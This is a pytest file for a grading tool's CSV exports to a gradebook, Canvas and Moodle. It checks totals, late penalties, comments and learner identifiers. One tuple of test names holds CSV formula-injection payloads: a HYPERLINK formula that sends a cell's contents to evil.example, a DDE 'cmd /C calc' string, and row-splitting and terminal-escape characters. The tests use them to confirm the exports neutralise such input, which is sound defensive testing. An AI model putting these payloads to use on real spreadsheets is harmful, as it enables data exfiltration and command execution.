import csv
import io
import re
from decimal import Decimal

import pandas as pd
import pytest
from made_results import DUE, after, result

from mlslab.grading.gradebook import (
    canvas_csv,
    comment,
    gradebook_csv,
    moodle_csv,
    without_account,
)
from mlslab.grading.manual import Mark
from mlslab.grading.policy import apply
from mlslab.grading.results import GradeStatus
from mlslab.grading.rules import Amount, Item, Late, Policy

ESSAY = Item("essay", "Defend your choice", Decimal(4))
POLICY = Policy(
    manual=(ESSAY,),
    late=Late(due=DUE, per_day=Amount(Decimal("0.5"))),
    extra_credit=frozenset(("tune",)),
)
MARKS = [Mark("anna", "essay", Decimal("3.5"), "good,\nbut long & <b>loud</b>")]
ANNA = result(
    "anna",
    "load",
    "tune",
    submitted=after(hours=1),
    seconds=12.3,
    note="for the instructor",
    accounts=(
        ("canvas_id", "77"),
        ("moodle_id", "123456"),
        ("full_name", "Anna Ó Briain"),
    ),
)
BEN = result("ben", submitted=DUE, status=GradeStatus.NOTHING_ATTEMPTED)
GRADES = apply(POLICY, [ANNA, BEN], MARKS)

NAMES = (
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1;=1",
    "a,=1",
    "Points Possible",
    'quo"te',
    "new\r\nline,99,99",
    "\x1b[2J\u202eevil",
    "caf\udce9",
    "",
)


def rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8"), newline="")))


def hostile():
    given = [
        result(name, "load", note=name, accounts=(("full_name", name),))
        for name in NAMES
    ]
    return apply(Policy(), given)


def test_the_gradebook_has_a_line_for_each_learner():
    head, anna, ben = rows(gradebook_csv(GRADES))
    assert dict(zip(head, anna, strict=True)) == {
        "learner": "anna",
        "status": "graded",
        # 2 + 1 + 3.5 − 0.5
        "total": "6",
        # 2 + 3 + 4
        "out_of": "9",
        "percent": "66.67",
        "exercise:load": "2",
        "status:load": "passed",
        "exercise:train": "0",
        "status:train": "incorrect",
        "exercise:tune": "1",
        "status:tune": "passed",
        "manual:essay": "3.5",
        "extra": "1",
        "days_late": "1",
        "penalty": "0.5",
        "attempts": "1",
        "file": "anna.ipynb",
        "digest": ANNA.digest,
        "note": "for the instructor",
    }
    missing = dict(zip(head, ben, strict=True))
    assert missing["status"] == "nothing attempted"
    assert (missing["total"], missing["manual:essay"]) == ("0", "")
    assert missing["note"] == "not yet marked: essay"


def test_the_same_grades_give_the_same_bytes():
    again = result(**(vars(ANNA) | {"seconds": 99.0}))
    turned = apply(POLICY, [BEN, again], MARKS)[::-1]
    assert gradebook_csv(turned) == gradebook_csv(GRADES)
    assert canvas_csv(turned, "Lab") == canvas_csv(GRADES, "Lab")
    assert moodle_csv(turned) == moodle_csv(GRADES)
    content = gradebook_csv(GRADES)
    assert b"\r" not in content and content.endswith(b"\n")
    assert b"12.3" not in content


def test_pandas_reads_numbers_as_numbers():
    frame = pd.read_csv(io.BytesIO(gradebook_csv(GRADES)))
    assert frame["total"].tolist() == [6, 0]
    assert frame["percent"].tolist() == [66.67, 0]
    assert frame["manual:essay"].isna().tolist() == [False, True]


def test_no_grades_give_a_heading():
    assert rows(gradebook_csv([]))[0][:2] == ["learner", "status"]
    assert len(rows(canvas_csv([], "Lab"))) == 2
    assert len(rows(moodle_csv([]))) == 1


@pytest.mark.parametrize(
    "write",
    [gradebook_csv, lambda grades: canvas_csv(grades, "Lab"), moodle_csv],
    ids=["gradebook", "canvas", "moodle"],
)
def test_names_are_neither_formulas_nor_lines(write):
    ids = [(("moodle_id", str(n)), ("full_name", name)) for n, name in enumerate(NAMES)]
    given = [
        result(name, "load", note=name, accounts=account)
        for name, account in zip(NAMES, ids, strict=True)
    ]
    content = write(apply(Policy(), given))
    found = rows(content)
    # Canvas has a second line of its own.
    assert len(found) in (len(NAMES) + 1, len(NAMES) + 2)
    assert {len(row) for row in found} == {len(found[0])}
    for separator in (",", ";", "\t", "|"):
        for row in csv.reader(io.StringIO(content.decode()), delimiter=separator):
            for text in row:
                assert not re.match(r"\s*[=+\-@]", text.strip('"')), (separator, text)
    assert not re.search(rb"[\x00-\x09\x0b-\x1f]", content)


def test_canvas_finds_its_columns():
    content = canvas_csv(GRADES, "Lab 302 (1234)")
    head, possible, anna, ben = rows(content)
    assert head == [
        "Student",
        "ID",
        "SIS User ID",
        "SIS Login ID",
        "Section",
        "Lab 302 (1234)",
    ]
    # As in `row[0].include?("Points Possible")`.
    assert possible == ["    Points Possible", "", "", "", "", "9"]
    assert anna == ["Anna Ó Briain", "77", "", "", "", "6"]
    assert ben == ["ben", "", "", "", "", "0"]
    assert without_account(GRADES, "canvas_id") == ["ben"]


def test_nobody_sets_the_points_of_canvas_by_a_name():
    found = rows(canvas_csv(hostile(), "Lab"))
    setting = [row for row in found if "Points Possible" in row[0]]
    assert setting == [["    Points Possible", "", "", "", "", "6"]]


def test_moodle_finds_learners_by_their_identifier():
    head, anna = rows(moodle_csv(GRADES))
    assert dict(zip(head, anna, strict=True)) == {
        "Identifier": "Participant 123456",
        "Full name": "Anna Ó Briain",
        "Email address": "",
        "Status": "",
        "Grade": "6",
        "Maximum Grade": "9",
        "Grade can be changed": "Yes",
        "Last modified (submission)": "",
        "Last modified (grade)": "",
        "Feedback comments": "6 of 9 points: 2 of 2 Load; 0 of 3 Train; 1 of 1 Tune;"
        " 3.5 of 4 Defend your choice; good, but long &amp; &lt;b&gt;loud&lt;/b&gt;;"
        " 0.5 less for being late",
    }
    assert without_account(GRADES, "moodle_id") == ["ben"]


def test_moodle_takes_no_grade_above_the_maximum():
    policy = Policy(extra_credit=frozenset(("train",)))
    given = result("a", "load", "train", "tune", accounts=(("moodle_id", "1"),))
    (_, row) = rows(moodle_csv(apply(policy, [given])))
    assert row[4:6] == ["3", "3"]
    assert row[9].startswith("6 of 3 points: ")


@pytest.mark.parametrize("odd", ["=1", "12 34", "1" * 21, "٣", "1\n"])
def test_ids_are_digits(odd):
    grades = apply(Policy(), [result("anna", accounts=(("moodle_id", odd),))])
    assert len(rows(moodle_csv(grades))) == 1
    assert without_account(grades, "moodle_id") == ["anna"]


def test_learners_are_told_what_is_not_yet_marked_but_not_the_note():
    (_, ben) = GRADES
    assert comment(ben) == (
        "0 of 9 points: 0 of 2 Load; 0 of 3 Train; 0 of 1 Tune;"
        " not yet marked: Defend your choice"
    )
    assert "instructor" not in comment(GRADES[0])
